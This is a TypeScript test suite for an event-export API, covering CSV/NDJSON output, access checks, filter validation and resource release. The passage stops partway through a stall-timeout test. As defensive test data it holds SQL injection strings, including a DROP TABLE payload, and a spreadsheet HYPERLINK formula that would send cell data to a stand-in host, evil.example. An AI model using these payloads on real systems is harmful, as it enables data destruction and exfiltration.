import { once } from 'node:events';
import { type Socket, connect } from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';
import { ConfigError, loadConfig } from '../src/platform/config';
import { createRoleTeam, createUser, type RoleTeam, type TestUser, createKeySecret } from './factories';
import { type TestServer, startTestServer, waitFor } from './harness';
import { FIXED_DATES_WINDOW, track } from './analytics-fixtures';
// How the engine streams an export (PostgreSQL: a COPY on a connection of its own; ClickHouse: a
// keyset page at a time): what these tests watch and break, through the engine's driver, to see
// that every exit gives the slot and the connection back.
import {
  activeExportReads,
  breakExportReads,
  exportReads,
  holdEventReads,
  idleEventTransactions,
  loadEvents,
} from './drivers/events';

let server: TestServer;
let team: RoleTeam;
let editorKey: string;
let viewerKey: string;

const RANGE = { from: '2026-04-01T00:00:00Z', to: '2026-04-02T00:00:00Z' };
const TRICKY_NAME = 'say "hi", then\nbye';
const TRICKY_PROPERTIES = {
  path: 'C:\\temp\\new',
  quote: 'a "b" c',
  tab: 'x\ty',
  unicode: 'é ✓',
  nested: { list: [1, null, true] },
};

beforeAll(async () => {
  server = await startTestServer(FIXED_DATES_WINDOW);
  team = await createRoleTeam(server, 'Export Team');
  [editorKey, viewerKey] = await Promise.all([
    createKeySecret(server, team.owner, team.teamId, 'EDITOR'),
    createKeySecret(server, team.owner, team.teamId, 'VIEWER'),
  ]);
  await track(server, editorKey, {
    events: [
      {
        id: '00000000-0000-4000-8000-000000000001',
        sessionId: 's1',
        name: TRICKY_NAME,
        timestamp: '2026-04-01T10:00:00.123Z',
        userId: 'u,1',
        durationMs: 12.5,
        status: 'error',
        properties: TRICKY_PROPERTIES,
      },
      ...Array.from({ length: 249 }, (_, i) => ({
        sessionId: `s${i % 9}`,
        name: 'plain',
        type: 'tool_call',
        timestamp: new Date(Date.UTC(2026, 3, 1, 11, 0, i)).toISOString(),
      })),
      // Outside the range.
      { sessionId: 's1', name: 'later', timestamp: '2026-04-02T00:00:00Z' },
    ],
  });
});
afterAll(() => server.close());

function exportUrl(params: Record<string, string>): string {
  return `${server.url}/v1/export/events?${new URLSearchParams(params).toString()}`;
}

async function get(params: Record<string, string>, credential: string | null) {
  const headers: Record<string, string> = {};
  if (credential) headers.authorization = `Bearer ${credential}`;
  const response = await fetch(exportUrl(params), { headers });
  return { status: response.status, headers: response.headers, text: await response.text() };
}

/** RFC 4180: CRLF between records, quoted fields may hold anything, "" is a quote. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let field = '';
  let record: string[] = [];
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i += 1;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      record.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      i += 1;
    } else if (c === '\n') {
      throw new Error(`bare LF outside quotes at ${i}`);
    } else field += c;
  }
  if (field !== '' || record.length > 0) throw new Error('last record not ended by CRLF');
  return records;
}

describe('GET /v1/export/events', () => {
  it('CSV: a header, one RFC 4180 record per event in range, in time order, quoting intact', async () => {
    const res = await get({ ...RANGE, format: 'csv' }, editorKey);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toContain('text/csv');
    expect(res.headers.get('content-disposition')).toBe('attachment; filename="events-2026-04-01-2026-04-02.csv"');
    const records = parseCsv(res.text);
    expect(records[0]).toEqual([
      'id',
      'timestamp',
      'sessionId',
      'name',
      'type',
      'userId',
      'durationMs',
      'status',
      'properties',
    ]);
    expect(records).toHaveLength(1 + 250);
    expect(records[1]).toEqual([
      '00000000-0000-4000-8000-000000000001',
      '2026-04-01T10:00:00.123Z',
      's1',
      TRICKY_NAME,
      'custom',
      'u,1',
      '12.5',
      'error',
      expect.any(String),
    ]);
    expect(JSON.parse(records[1]?.[8] ?? '')).toEqual(TRICKY_PROPERTIES);
    expect(records[2]?.slice(3, 7)).toEqual(['plain', 'tool_call', '', '']);
    expect(records.slice(1).every((r) => r.length === 9)).toBe(true);
  });

  it('NDJSON: one JSON object per line that parses back to what was sent', async () => {
    const res = await get({ ...RANGE, format: 'ndjson' }, editorKey);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toContain('application/x-ndjson');
    const lines = res.text.split('\n');
    expect(lines.at(-1)).toBe('');
    const rows = lines.slice(0, -1).map((line) => JSON.parse(line) as Record<string, unknown>);
    expect(rows).toHaveLength(250);
    expect(rows[0]).toEqual({
      id: '00000000-0000-4000-8000-000000000001',
      timestamp: '2026-04-01T10:00:00.123Z',
      sessionId: 's1',
      name: TRICKY_NAME,
      type: 'custom',
      userId: 'u,1',
      durationMs: 12.5,
      status: 'error',
      properties: TRICKY_PROPERTIES,
    });
    expect(rows[1]).toMatchObject({ name: 'plain', userId: null, durationMs: null, properties: null });
  });

  it('an EDITOR key exports its own workspace, with or without its id; another id is NOT_FOUND', async () => {
    expect((await get({ ...RANGE, workspaceId: team.teamId }, editorKey)).status).toBe(200);
    const other = await get({ ...RANGE, workspaceId: team.stranger.personalWorkspaceId }, editorKey);
    expect(other.status).toBe(404);
    expect(JSON.parse(other.text)).toMatchObject({ error: 'NOT_FOUND' });
    const unknown = await get({ ...RANGE, workspaceId: '00000000-0000-4000-8000-00000000dead' }, editorKey);
    expect(unknown.status).toBe(404);
    expect(JSON.parse(unknown.text).message).toBe(JSON.parse(other.text).message);
  });

  it('a VIEWER key is FORBIDDEN; no credential is 401', async () => {
    const viewer = await get(RANGE, viewerKey);
    expect(viewer.status).toBe(403);
    expect(JSON.parse(viewer.text)).toMatchObject({ error: 'FORBIDDEN' });
    expect((await get(RANGE, null)).status).toBe(401);
  });

  it('people export with their token and the workspace id: OWNER, ADMIN, EDITOR yes; VIEWER 403; outsiders 404', async () => {
    for (const member of [team.owner, team.admin, team.editor]) {
      const res = await get({ ...RANGE, workspaceId: team.teamId, format: 'ndjson' }, member.accessToken);
      expect(res.status).toBe(200);
      expect(res.text.split('\n')).toHaveLength(251);
    }
    expect((await get({ ...RANGE, workspaceId: team.teamId }, team.viewer.accessToken)).status).toBe(403);
    expect((await get({ ...RANGE, workspaceId: team.teamId }, team.stranger.accessToken)).status).toBe(404);
    expect((await get({ ...RANGE, workspaceId: 'not-an-id' }, team.stranger.accessToken)).status).toBe(404);
    expect((await get(RANGE, team.owner.accessToken)).status).toBe(400);
  });

  it('checks the range and the format', async () => {
    expect((await get({ from: RANGE.to, to: RANGE.from }, editorKey)).status).toBe(400);
    expect((await get({ from: '2024-01-01T00:00:00Z', to: RANGE.to }, editorKey)).status).toBe(400);
    expect((await get({ ...RANGE, format: 'xml' }, editorKey)).status).toBe(400);
    expect((await get({ from: 'yesterday', to: RANGE.to }, editorKey)).status).toBe(400);
  });

  it('a client that goes away stops the query and frees its connection', async () => {
    // Enough rows that the export cannot finish before the client leaves.
    await insertBulk(server, team.teamId, '2026-04-01T12:00:00Z', 100_000, 200);
    const controller = new AbortController();
    const response = await fetch(exportUrl({ ...RANGE, format: 'csv' }), {
      headers: { authorization: `Bearer ${editorKey}` },
      signal: controller.signal,
    });
    const reader = response.body?.getReader();
    const first = await reader?.read();
    expect(first?.value?.length).toBeGreaterThan(0);
    const copying = () => activeExportReads(server);
    expect(await copying()).toBe(1);
    controller.abort();
    const stoppedWithin = await waitFor(async () => (await copying()) === 0, 5_000, 'the COPY stopped');
    expect(stoppedWithin).toBeLessThan(5000);
    await waitFor(() => server.tally.services.exports.running() === 0, 30_000, 'the slot is given back');
    // And exports work afterwards.
    expect((await get({ ...RANGE, format: 'ndjson' }, editorKey)).status).toBe(200);
  });
});

describe('GET /v1/export/events with a filter (the analytics queries’ filter and saved filters)', () => {
  const DAY = { from: '2026-04-03T00:00:00Z', to: '2026-04-04T00:00:00Z' };
  const id = (n: number) => `00000000-0000-4000-8000-0000000000f${n}`;
  let strangerSavedFilter: string;

  beforeAll(async () => {
    await track(server, editorKey, {
      events: [
        {
          id: id(1),
          sessionId: 'f-a',
          name: 'search',
          type: 'tool_call',
          userId: 'ada',
          properties: { plan: 'pro', q: 'Pricing PAGE' },
        },
        { id: id(2), sessionId: 'f-b', name: 'search', userId: 'bob', properties: { plan: 'free' } },
        { id: id(3), sessionId: 'f-a', name: 'search', userId: 'ada', properties: { plan: null } },
        { id: id(4), sessionId: 'f-a', name: 'open', userId: 'ada', properties: { plan: 'pro' } },
        { id: id(5), sessionId: 'f-c', name: 'search', userId: 'cy' },
      ].map((event, i) => ({ ...event, timestamp: `2026-04-03T10:0${i}:00.000Z` })),
    });
    const created = await server.gql<{ createSavedFilter: { id: string } }>(
      `mutation($w: ID!, $i: SavedFilterInput!) { createSavedFilter(workspaceId: $w, input: $i) { id } }`,
      { w: team.stranger.personalWorkspaceId, i: { name: 'ada elsewhere', filter: { userIds: ['ada'] } } },
      { token: team.stranger.accessToken },
    );
    const saved = created.data?.createSavedFilter.id;
    if (!saved) throw new Error(`createSavedFilter failed: ${JSON.stringify(created.errors)}`);
    strangerSavedFilter = saved;
  });

  async function exportedIds(params: Record<string, string>, credential = editorKey): Promise<string[]> {
    const res = await get({ ...DAY, format: 'ndjson', ...params }, credential);
    if (res.status !== 200) throw new Error(`export answered ${res.status}: ${res.text}`);
    return res.text
      .split('\n')
      .filter(Boolean)
      .map((line) => (JSON.parse(line) as { id: string }).id);
  }
  const filter = (value: unknown) => ({ filter: JSON.stringify(value) });

  it('without a filter: every event of the range', async () => {
    expect(await exportedIds({})).toEqual([1, 2, 3, 4, 5].map(id));
  });

  it.each<[string, unknown, number[]]>([
    ['names', { names: ['open'] }, [4]],
    ['types', { types: ['tool_call'] }, [1]],
    ['userIds', { userIds: ['ada', 'cy'] }, [1, 3, 4, 5]],
    ['EQ', { properties: [{ key: 'plan', op: 'EQ', value: 'pro' }] }, [1, 4]],
    [
      'NEQ (missing counts as different)',
      { names: ['search'], properties: [{ key: 'plan', op: 'NEQ', value: 'pro' }] },
      [2, 3, 5],
    ],
    ['CONTAINS, ignoring case', { properties: [{ key: 'q', op: 'CONTAINS', value: 'pricing page' }] }, [1]],
    ['EXISTS (even null)', { properties: [{ key: 'plan', op: 'EXISTS' }] }, [1, 2, 3, 4]],
    [
      'every part at once',
      { names: ['search'], userIds: ['ada'], properties: [{ key: 'plan', op: 'EQ', value: 'pro' }] },
      [1],
    ],
  ])('%s: exactly the matching rows', async (_kind, value, expected) => {
    expect(await exportedIds(filter(value))).toEqual(expected.map(id));
  });

  it('exports exactly what Activity lists for the same filter, as CSV too', async () => {
    const value = { names: ['search'], properties: [{ key: 'plan', op: 'NEQ', value: 'free' }] };
    const res = await server.gql<{ workspace: { analytics: { activity: { nodes: Array<{ id: string }> } } } }>(
      `query($w: ID!, $range: DateRangeInput!, $filter: EventFilterInput) {
        workspace(id: $w) { analytics(range: $range, filter: $filter) { activity(first: 100) { nodes { id } } } } }`,
      { w: team.teamId, range: DAY, filter: value },
      { token: team.viewer.accessToken },
    );
    const listed = (res.data?.workspace.analytics.activity.nodes ?? []).map((n) => n.id).reverse();
    expect(listed).toEqual([1, 3, 5].map(id));
    const csv = await get({ ...DAY, format: 'csv', ...filter(value) }, editorKey);
    expect(csv.status).toBe(200);
    const records = parseCsv(csv.text);
    expect(records.slice(1).map((r) => r[0])).toEqual(listed);
  });

  it('a saved filter of the workspace applies, alone and together with an ad-hoc one', async () => {
    const created = await server.gql<{ createSavedFilter: { id: string } }>(
      `mutation($w: ID!, $i: SavedFilterInput!) { createSavedFilter(workspaceId: $w, input: $i) { id } }`,
      { w: team.teamId, i: { name: 'ada searches', filter: { names: ['search'], userIds: ['ada'] } } },
      { token: team.editor.accessToken },
    );
    const savedFilterId = created.data?.createSavedFilter.id ?? '';
    expect(await exportedIds({ savedFilterId })).toEqual([1, 3].map(id));
    const both = { savedFilterId, ...filter({ properties: [{ key: 'plan', op: 'EQ', value: 'pro' }] }) };
    expect(await exportedIds(both)).toEqual([id(1)]);
    // A person's token, with the workspace named, gets the same rows.
    expect(await exportedIds({ ...both, workspaceId: team.teamId }, team.editor.accessToken)).toEqual([id(1)]);
  });

  it("another workspace's saved filter is NOT_FOUND, like an unknown one", async () => {
    const other = await get({ ...DAY, savedFilterId: strangerSavedFilter }, editorKey);
    expect(other.status).toBe(404);
    expect(JSON.parse(other.text)).toEqual({ error: 'NOT_FOUND', message: 'Saved filter not found.' });
    for (const unknown of ['00000000-0000-4000-8000-00000000beef', 'not-an-id']) {
      const res = await get({ ...DAY, savedFilterId: unknown }, editorKey);
      expect(res.status).toBe(404);
      expect(JSON.parse(res.text)).toEqual(JSON.parse(other.text));
    }
  });

  it.each<[string, string, RegExp]>([
    ['not JSON', '{names: [search]}', /not JSON/],
    ['a list that is a string', JSON.stringify({ names: 'search' }), /at names: .*array/i],
    ['an unknown field', JSON.stringify({ name: ['search'] }), /name/],
    [
      'an unknown operator',
      JSON.stringify({ properties: [{ key: 'plan', op: 'LIKE', value: 'p' }] }),
      /properties\.0\.op/,
    ],
    [
      'EQ without a value',
      JSON.stringify({ properties: [{ key: 'plan', op: 'EQ' }] }),
      /EQ condition on "plan" needs a value/,
    ],
    ['an empty key', JSON.stringify({ properties: [{ key: ' ', op: 'EXISTS' }] }), /key of 1 to 200/],
    [
      'too many conditions',
      JSON.stringify({ properties: Array.from({ length: 11 }, (_, i) => ({ key: `k${i}`, op: 'EXISTS' })) }),
      /at most 10 property conditions/,
    ],
    [
      'a value too long',
      JSON.stringify({ properties: [{ key: 'q', op: 'EQ', value: 'x'.repeat(1001) }] }),
      /at most 1000/,
    ],
  ])('a bad filter (%s) is 400 BAD_USER_INPUT naming the problem', async (_kind, text, message) => {
    const res = await get({ ...DAY, filter: text }, editorKey);
    expect(res.status).toBe(400);
    const body = JSON.parse(res.text) as { error: string; message: string; field: string };
    expect(body).toMatchObject({ error: 'BAD_USER_INPUT', field: expect.stringMatching(/^(filter|properties)$/) });
    expect(body.message).toMatch(message);
  });

  it('filter values are data, never SQL', async () => {
    const value = { properties: [{ key: "plan') OR TRUE OR ('", op: 'EQ', value: "pro' OR '1'='1" }] };
    expect(await exportedIds(filter(value))).toEqual([]);
    expect(await exportedIds(filter({ names: ["search'); DROP TABLE events; --"] }))).toEqual([]);
    expect(await exportedIds({})).toHaveLength(5);
  });

  it('access is checked before the filter: a VIEWER key is 403, an outsider 404, whatever the filter', async () => {
    expect((await get({ ...DAY, filter: 'nonsense' }, viewerKey)).status).toBe(403);
    const outsider = await get({ ...DAY, workspaceId: team.teamId, filter: 'nonsense' }, team.stranger.accessToken);
    expect(outsider.status).toBe(404);
    expect(JSON.parse(outsider.text)).toMatchObject({ error: 'NOT_FOUND', message: 'Workspace not found.' });
  });
});

// ---------------------------------------------------------------------------------------------
// Exports cannot be jammed (issue 16, §2): every exit gives the slot and the connection back,
// stalled readers time out, the slots are shared fairly, CSV cells are not formulas, and a
// control character in the filter is a clear 400 before anything starts.
// ---------------------------------------------------------------------------------------------

/**
 * `rows` events a millisecond apart from `start`, with `pad` bytes (1 KB by default) of properties
 * each: tens of megabytes of export, far more than the sockets' buffers hold, so a reader that
 * never reads blocks the server on back-pressure. Written by the engine's bulk loader.
 */
async function insertBulk(
  srv: TestServer,
  workspaceId: string,
  start: string,
  rows: number,
  pad = 1000,
): Promise<void> {
  const from = Date.parse(start);
  const properties = { pad: 'x'.repeat(pad) };
  function* bulk() {
    for (let g = 1; g <= rows; g += 1) {
      yield { timestamp: new Date(from + g), sessionId: 'bulk', name: 'bulk', properties };
    }
  }
  await loadEvents(srv, workspaceId, bulk());
}

function dayRange(day: string): { from: string; to: string } {
  const from = new Date(day);
  return { from: from.toISOString(), to: new Date(from.getTime() + 24 * 3600 * 1000).toISOString() };
}

/** Exports reading the server's events (PostgreSQL: their COPY, waiting or not). */
const copyBackends = exportReads;

/** Slots taken on the server: all of them, or one workspace's. */
function slots(srv: TestServer, workspaceId?: string): number {
  return srv.tally.services.exports.running(workspaceId);
}

interface StalledReader {
  socket: Socket;
  /** Everything received once `drain()` was called. */
  drain(): Promise<Buffer>;
}

/**
 * Sends an export request over a raw socket and never reads the answer: after the socket's
 * buffers fill up, the server is blocked on back-pressure, as with a client that stopped reading.
 */
async function stalledReader(
  srv: TestServer,
  params: Record<string, string>,
  credential: string,
): Promise<StalledReader> {
  const { hostname, port } = new URL(srv.url);
  const socket = connect({ host: hostname, port: Number(port) });
  socket.on('error', () => undefined); // a reset by the server is what some tests wait for
  await once(socket, 'connect');
  socket.write(
    `GET /v1/export/events?${new URLSearchParams(params).toString()} HTTP/1.1\r\n` +
      `Host: ${hostname}:${port}\r\nAuthorization: Bearer ${credential}\r\nConnection: close\r\n\r\n`,
  );
  return {
    socket,
    async drain() {
      const chunks: Buffer[] = [];
      socket.on('data', (chunk: Buffer) => chunks.push(chunk));
      if (!socket.closed) await once(socket, 'close');
      return Buffer.concat(chunks);
    },
  };
}

/** A chunked HTTP response that was cut before its end has no terminating zero-length chunk. */
function isCutResponse(raw: Buffer): boolean {
  return raw.subarray(0, 15).toString() === 'HTTP/1.1 200 OK' && !raw.subarray(-5).equals(Buffer.from('0\r\n\r\n'));
}

async function exportAs(
  srv: TestServer,
  params: Record<string, string>,
  credential: string,
): Promise<{ status: number; headers: Headers; text: string }> {
  const response = await fetch(`${srv.url}/v1/export/events?${new URLSearchParams(params).toString()}`, {
    headers: { authorization: `Bearer ${credential}` },
  });
  return { status: response.status, headers: response.headers, text: await response.text() };
}

describe('an export always gives its slot and its database connection back', () => {
  /** The bound of each wait below. */
  const WAIT_MS = 15_000;
  const BULK = dayRange('2026-04-06T00:00:00Z');
  /** The five events of the filter tests. */
  const SMALL = dayRange('2026-04-03T00:00:00Z');
  const goodExport = async (format: string) => {
    const res = await get({ ...SMALL, format }, editorKey);
    expect(res.status).toBe(200);
    expect(res.text.split(format === 'csv' ? '\r\n' : '\n')).toHaveLength(format === 'csv' ? 7 : 6);
  };

  beforeAll(async () => {
    await insertBulk(server, team.teamId, BULK.from, 30_000);
  });

  it('a filter with NUL (the failure reported) is refused; six in a row, and exports still work', async () => {
    for (let i = 0; i < 6; i += 1) {
      const res = await get({ ...RANGE, format: 'ndjson', filter: JSON.stringify({ names: ['a\u0000'] }) }, editorKey);
      expect(res.status).toBe(400);
    }
    expect(slots(server)).toBe(0);
    await goodExport('ndjson');
  });

  it(
    'a COPY that fails mid-stream (six times, both formats) frees its slot and connection',
    async () => {
      for (const format of ['ndjson', 'ndjson', 'ndjson', 'ndjson', 'csv', 'csv']) {
        const response = await fetch(exportUrl({ ...BULK, format }), {
          headers: { authorization: `Bearer ${editorKey}` },
        });
        expect(response.status).toBe(200);
        const reader = response.body?.getReader();
        if (!reader) throw new Error('no body');
        expect((await reader.read()).value?.length).toBeGreaterThan(0);
        // The COPY is blocked on the unread socket; cancelling it makes the COPY fail.
        await waitFor(async () => (await copyBackends(server)) === 1, WAIT_MS, 'the COPY runs');
        await breakExportReads(server);
        // The response is cut (no clean end), not completed, and not left hanging.
        const bound = new AbortController();
        const outcome = await Promise.race([
          (async () => {
            for (;;) if ((await reader.read()).done) return 'complete';
          })().catch(() => 'cut'),
          delay(WAIT_MS, 'stuck', { signal: bound.signal }),
        ]);
        bound.abort();
        expect(outcome).toBe('cut');
        await waitFor(() => slots(server) === 0, WAIT_MS, 'the slot is free');
        await waitFor(async () => (await copyBackends(server)) === 0, WAIT_MS, 'the connection is closed');
      }
      expect(slots(server, team.teamId)).toBe(0);
      await goodExport('ndjson');
      await goodExport('csv');
    },
    // Each wait is bounded well inside the test's own time, so that a stuck one names itself (a
    // run on a busy machine once ran out of the default 30 s without saying where).
    6 * WAIT_MS,
  );

  it.each(['csv', 'ndjson'])(
    'a %s COPY that fails before its first byte answers JSON, not the file (no Fastify error leaks)',
    async (format) => {
      // Hold the events table so that the COPY waits, then cancel it while it waits.
      const lock = await holdEventReads(server);
      try {
        const pending = exportAs(server, { ...RANGE, format }, editorKey);
        await waitFor(async () => (await copyBackends(server)) === 1, 30_000, 'the COPY waits for the lock');
        await breakExportReads(server);
        const res = await pending;
        expect(res.status).toBe(500);
        expect(res.headers.get('content-type')).toContain('application/json');
        expect(res.headers.get('content-disposition')).toBeNull();
        expect(JSON.parse(res.text)).toMatchObject({ error: 'INTERNAL_SERVER_ERROR' });
      } finally {
        await lock.release();
      }
      await waitFor(() => slots(server) === 0, 30_000, 'the slot is free');
      await goodExport(format);
    },
  );
});

describe('CSV cells that a spreadsheet would run as formulas', () => {
  const DAY = dayRange('2026-04-07T00:00:00Z');
  const id = (n: number) => `00000000-0000-4000-8000-0000000000c${n}`;
  const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
  const EVENTS = [
    {
      id: id(1),
      sessionId: '@session',
      name: HYPERLINK,
      type: '+tool',
      userId: '-user',
      durationMs: 1.5,
      status: 'ok',
      properties: { formula: '=1+2', '@key': '-3' },
    },
    { id: id(2), sessionId: 's', name: '\tcmd', type: 'custom', userId: '@u' },
    { id: id(3), sessionId: 's', name: '\rcmd', type: 'custom' },
    { id: id(4), sessionId: 's', name: 'a=b+c-d@e', type: 'custom', userId: 'plain' },
  ].map((event, i) => ({ ...event, timestamp: `2026-04-07T10:0${i}:00.000Z` }));

  beforeAll(async () => {
    await track(server, editorKey, { events: EVENTS });
    // A negative number (the ingest takes none, but a number column is never a formula).
    await loadEvents(server, team.teamId, [
      { id: id(5), timestamp: new Date('2026-04-07T10:05:00Z'), sessionId: 's', name: 'negative', durationMs: -5 },
    ]);
  });

  it('starts every text cell beginning with = + - @ tab or CR with a quote; numbers and JSON stay', async () => {
    const res = await get({ ...DAY, format: 'csv' }, editorKey);
    expect(res.status).toBe(200);
    expect(res.text).toBe(
      [
        'id,timestamp,sessionId,name,type,userId,durationMs,status,properties',
        `${id(1)},2026-04-07T10:00:00.000Z,'@session,"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",'+tool,'-user,1.5,ok,"{""@key"": ""-3"", ""formula"": ""=1+2""}"`,
        `${id(2)},2026-04-07T10:01:00.000Z,s,'\tcmd,custom,'@u,,,`,
        `${id(3)},2026-04-07T10:02:00.000Z,s,"'\rcmd",custom,,,,`,
        `${id(4)},2026-04-07T10:03:00.000Z,s,a=b+c-d@e,custom,plain,,,`,
        `${id(5)},2026-04-07T10:05:00.000Z,s,negative,custom,,-5,,`,
        '',
      ].join('\r\n'),
    );
  });

  it('NDJSON stays exact: the values as they were sent', async () => {
    const res = await get({ ...DAY, format: 'ndjson' }, editorKey);
    expect(res.status).toBe(200);
    const rows = res.text
      .split('\n')
      .filter(Boolean)
      .map((line) => JSON.parse(line) as Record<string, unknown>);
    expect(rows.slice(0, 4)).toEqual(
      EVENTS.map((event) => ({
        userId: null,
        durationMs: null,
        status: null,
        properties: null,
        ...event,
      })),
    );
    expect(rows[4]).toMatchObject({ name: 'negative', durationMs: -5 });
  });
});

describe('a control character in the export filter', () => {
  const GQL_FILTER = `query($w: ID!, $range: DateRangeInput!, $filter: EventFilterInput) {
    workspace(id: $w) { analytics(range: $range, filter: $filter) { activity(first: 1) { nodes { id } } } } }`;

  it.each<[string, string, Record<string, unknown>]>([
    ['csv', 'NUL in a name', { names: ['a\u0000'] }],
    ['ndjson', 'NUL in a name', { names: ['a\u0000'] }],
    ['csv', 'a lone surrogate in a value', { properties: [{ key: 'q', op: 'EQ', value: 'x\ud800' }] }],
    ['ndjson', 'a lone surrogate in a value', { properties: [{ key: 'q', op: 'EQ', value: 'x\ud800' }] }],
    ['csv', 'an escape character in a key', { properties: [{ key: 'q\u001b', op: 'EXISTS' }] }],
  ])(
    '%s, %s: 400 BAD_USER_INPUT in JSON, as GraphQL says it, before any export starts',
    async (format, _kind, value) => {
      const gql = await server.gql(
        GQL_FILTER,
        { w: team.teamId, range: RANGE, filter: value },
        {
          token: team.viewer.accessToken,
        },
      );
      expect(gql.errors?.[0]?.extensions?.['code']).toBe('BAD_USER_INPUT');
      const gqlMessage = gql.errors?.[0]?.message ?? '';
      expect(gqlMessage.startsWith('Variable $filter ')).toBe(true);

      const started = server.tally.services.exports.started;
      const res = await get({ ...RANGE, format, filter: JSON.stringify(value) }, editorKey);
      expect(res.status).toBe(400);
      expect(res.headers.get('content-type')).toContain('application/json');
      expect(res.headers.get('content-disposition')).toBeNull();
      expect(JSON.parse(res.text)).toEqual({
        error: 'BAD_USER_INPUT',
        field: 'filter',
        message: gqlMessage.replace('Variable $filter ', 'The filter '),
      });
      expect(server.tally.services.exports.started).toBe(started);
      expect(slots(server)).toBe(0);
    },
  );
});

describe('export settings', () => {
  it('default to 4 exports per instance, 2 per workspace, 30 s without progress', () => {
    expect(loadConfig({}).exportLimits).toEqual({
      maxConcurrent: 4,
      maxConcurrentPerWorkspace: 2,
      stallTimeoutSeconds: 30,
    });
  });

  it.each<[Record<string, string>, RegExp]>([
    [{ EXPORT_MAX_CONCURRENT: '0' }, /^EXPORT_MAX_CONCURRENT: /],
    [{ EXPORT_MAX_CONCURRENT: '50' }, /^EXPORT_MAX_CONCURRENT: /],
    [{ EXPORT_STALL_TIMEOUT_SECONDS: '0' }, /^EXPORT_STALL_TIMEOUT_SECONDS: /],
    [{ EXPORT_STALL_TIMEOUT_SECONDS: 'soon' }, /^EXPORT_STALL_TIMEOUT_SECONDS: /],
    [
      { EXPORT_MAX_CONCURRENT: '2', EXPORT_MAX_CONCURRENT_PER_WORKSPACE: '3' },
      /^EXPORT_MAX_CONCURRENT_PER_WORKSPACE: must be at most EXPORT_MAX_CONCURRENT \(2\)/,
    ],
  ])('refuse %j, naming the setting', (env, message) => {
    let error: unknown;
    try {
      loadConfig(env);
    } catch (caught) {
      error = caught;
    }
    expect(error).toBeInstanceOf(ConfigError);
    expect((error as ConfigError).problems).toEqual([expect.stringMatching(message)]);
  });
});

describe('export slots are shared fairly, and a stopping server ends the exports', () => {
  let fair: TestServer;
  let a: TestUser;
  let b: TestUser;
  let c: TestUser;
  const BULK = dayRange('2026-04-06T00:00:00Z');
  const SMALL = dayRange('2026-04-08T00:00:00Z');

  beforeAll(async () => {
    // Stalled readers never time out here: only the client or the stop ends them.
    fair = await startTestServer({
      EXPORT_MAX_CONCURRENT: '3',
      EXPORT_MAX_CONCURRENT_PER_WORKSPACE: '2',
      EXPORT_STALL_TIMEOUT_SECONDS: '3600',
    });
    [a, b, c] = await Promise.all([createUser(fair), createUser(fair), createUser(fair)]);
    await insertBulk(fair, a.personalWorkspaceId, BULK.from, 30_000);
    await insertBulk(fair, b.personalWorkspaceId, BULK.from, 30_000);
    await insertBulk(fair, c.personalWorkspaceId, SMALL.from, 10);
  });
  afterAll(() => fair.close());

  const bulkOf = (user: TestUser) => ({ ...BULK, workspaceId: user.personalWorkspaceId, format: 'ndjson' });

  it('one workspace holds at most its share; others still export; the instance limit holds too', async () => {
    const holders = [
      await stalledReader(fair, bulkOf(a), a.accessToken),
      await stalledReader(fair, bulkOf(a), a.accessToken),
    ];
    await waitFor(() => slots(fair, a.personalWorkspaceId) === 2, 30_000, 'A holds two slots');

    const third = await exportAs(fair, bulkOf(a), a.accessToken);
    expect(third.status).toBe(429);
    expect(third.headers.get('retry-after')).toBe('5');
    expect(JSON.parse(third.text)).toEqual({
      error: 'RATE_LIMITED',
      message: 'This workspace already runs 2 exports, the most it may run at once. Try again in 5 seconds.',
      retryAfterSeconds: 5,
    });

    // Another workspace is not locked out by A.
    const small = { ...SMALL, workspaceId: c.personalWorkspaceId, format: 'ndjson' };
    const other = await exportAs(fair, small, c.accessToken);
    expect(other.status).toBe(200);
    expect(other.text.split('\n')).toHaveLength(11);

    // The last slot of the instance goes to B; then nobody gets one.
    holders.push(await stalledReader(fair, bulkOf(b), b.accessToken));
    await waitFor(() => slots(fair) === 3, 30_000, 'B holds a slot');
    const full = await exportAs(fair, small, c.accessToken);
    expect(full.status).toBe(429);
    expect(full.headers.get('retry-after')).toBe('5');
    expect(JSON.parse(full.text)).toMatchObject({
      error: 'RATE_LIMITED',
      message: expect.stringMatching(/^Too many exports are running/),
    });

    // Clients that go away give every slot and connection back.
    for (const holder of holders) holder.socket.destroy();
    await waitFor(() => slots(fair) === 0, 30_000, 'the slots are free');
    await waitFor(async () => (await copyBackends(fair)) === 0, 30_000, 'the COPYs are gone');
    expect((await exportAs(fair, small, c.accessToken)).status).toBe(200);
  });

  it('stopping the server ends stalled exports and closes their connections', async () => {
    const holder = await stalledReader(fair, bulkOf(a), a.accessToken);
    await waitFor(() => slots(fair) === 1, 30_000, 'the export runs');
    // Its first bytes have arrived (unread): the file has started, so the stop can only cut it.
    await waitFor(() => holder.socket.readableLength > 0, 30_000, 'the export streams');
    // Without ending the export, the stop would wait for it forever (its reader never reads).
    let stopped = false;
    const stopping = fair.tally.close().then(() => {
      stopped = true;
    });
    await waitFor(() => stopped, 30_000, 'the server stops');
    await stopping;
    expect(slots(fair)).toBe(0);
    expect(isCutResponse(await holder.drain())).toBe(true);
  });
});

describe('an export whose reader stalls', () => {
  let stall: TestServer;
  let owner: TestUser;
  const BULK = dayRange('2026-04-06T00:00:00Z');

  beforeAll(async () => {
    stall = await startTestServer({ EXPORT_STALL_TIMEOUT_SECONDS: '2' });
    owner = await createUser(stall);
    // ~14 MB of NDJSON: three times what the sockets' buffers hold.
    await insertBulk(stall, owner.personalWorkspaceId, BULK.from, 12_000);
  });
  afterAll(() => stall.close());

  const bulk = () => ({ ...BULK, workspaceId: owner.personalWorkspaceId, format: 'ndjson' });

  it('is ended after the stall timeout: slots, connections and transactions are freed', async () => {
    const readers = [
      await stalledReader(stall, bulk(), owner.accessToken),
      await stalledReader(stall, bulk(), owner.accessToken),
    ];
